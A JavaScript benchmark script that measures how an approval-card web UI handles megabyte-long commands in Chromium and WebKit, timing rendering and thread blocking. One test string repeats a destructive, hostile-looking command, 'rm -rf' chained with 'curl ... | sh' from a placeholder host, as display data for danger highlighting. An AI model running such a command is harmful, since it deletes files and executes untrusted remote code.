/**
 * How the approval card takes a command of a megabyte: how long the page's own thread is held at once while the card
 * opens, and whether the whole command is there. Prints JSON. `node tests/bench/command.mjs [chromium|webkit]`.
 */
import { build, preview } from "vite";
import { chromiumPage } from "./chromium.mjs";
import { webkitPage } from "./webkit.mjs";

const outDir = "../target/ui-bench";
const engines = { chromium: chromiumPage, webkit: webkitPage };
const engine = process.argv[2] ?? "chromium";
if (!(engine in engines)) throw new Error(`no such engine: ${engine}`);

/** Each a megabyte: words in one line, danger in every line, one word, escapes alone. */
const commands = {
  words: `"echo word; ".repeat(95_000)`,
  dangers: `"rm -rf ./build/x && curl -s https://x | sh\\n".repeat(24_000)`,
  oneWord: `"x".repeat(1_048_576)`,
  escapes: `"⟨U+202E⟩".repeat(116_508)`,
};

/** Runs in the page: opens the card and watches the thread until all is there and looked through. */
const measure = (text) => `(async () => {
  const text = ${text};
  const item = globalThis.fake.request({ subject: text });
  await new Promise((resolve) => setTimeout(resolve, 500));
  const gaps = [];
  let running = true;
  let last = performance.now();
  const channel = new MessageChannel();
  channel.port1.onmessage = () => {
    const now = performance.now();
    gaps.push(now - last);
    last = now;
    if (running) channel.port2.postMessage(null);
  };
  channel.port2.postMessage(null);
  const started = performance.now();
  location.hash = "#/inbox/" + encodeURIComponent(item.key);
  const until = async (holds) => {
    while (!holds()) {
      if (performance.now() - started > 60_000) throw new Error("not within a minute");
      await new Promise((resolve) => requestAnimationFrame(resolve));
    }
    return Math.round(performance.now() - started);
  };
  const box = () => document.querySelector("article pre");
  const shown = await until(() => box()?.textContent.length === text.length);
  const pressable = await until(() => document.querySelector("[data-decision]:not(:disabled)"));
  const read = await until(() => !document.querySelector("[data-reading=pending]"));
  await new Promise((resolve) => setTimeout(resolve, 300));
  running = false;
  return {
    shown,
    pressable,
    read,
    longestBlock: Math.round(Math.max(...gaps)),
    blocked: Math.round(gaps.filter((gap) => gap > 50).reduce((sum, gap) => sum + gap - 50, 0)),
    elements: box().querySelectorAll("*").length,
    whole: box().textContent === text,
    marked: document.querySelectorAll("article pre .danger").length,
  };
})()`;

await build({ mode: "screens", logLevel: "error", build: { outDir, emptyOutDir: true } });
const server = await preview({ mode: "screens", build: { outDir }, preview: { port: 0 } });
const { port } = server.httpServer.address();
const page = await engines[engine]();
try {
  const figures = {};
  for (const [name, text] of Object.entries(commands)) {
    await page.go(`http://127.0.0.1:${port}/?fake=quiet&latency=0#/inbox`);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    figures[name] = await page.evaluate(measure(text));
    if (!figures[name].whole) throw new Error(`${name} is not shown whole`);
  }
  console.log(JSON.stringify({ engine, figures }, null, 2));
} finally {
  await page.close();
  await new Promise((resolve) => server.httpServer.close(resolve));
}
